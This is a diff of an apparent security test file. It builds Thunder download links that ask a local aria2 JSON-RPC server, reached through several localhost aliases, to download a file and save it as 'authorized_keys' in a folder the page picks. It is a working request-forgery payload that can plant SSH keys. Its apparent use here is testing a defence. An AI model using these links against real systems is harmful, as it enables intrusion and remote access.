@@ -135,13 +135,14 @@ async function checkHuge(hugeTab, otherTab, origin) {
 }
 
 // The post of the aria2 attack: one honest download and Thunder links whose address is aria2's
-// own JSON-RPC asked (by GET) to fetch a file into a folder of the page's choosing.
-function attackLinks(aria2Port, filesPort, outside) {
+// own JSON-RPC, on each of `hosts`, asked (by GET) to fetch a file into a folder of the page's
+// choosing.
+const thisMachine = ['localhost', '127.1', '[::1]', '2130706433'];
+function attackLinks(aria2Port, filesPort, outside, hosts = thisMachine) {
   const params = Buffer.from(JSON.stringify(
       [[`http://${filesHost}:${filesPort}/files/a.zip`], {dir: outside, out: 'authorized_keys'}]))
                      .toString('base64');
   const query = `method=aria2.addUri&id=1&params=${encodeURIComponent(params)}`;
-  const hosts = ['localhost', '127.1', '[::1]', '2130706433'];
   return {
     honest: thunder(`http://${filesHost}:${filesPort}/files/影片 一.mp4`),
     attacks: hosts.map((host) => thunder(`http://${host}:${aria2Port}/jsonrpc?${query}`)),
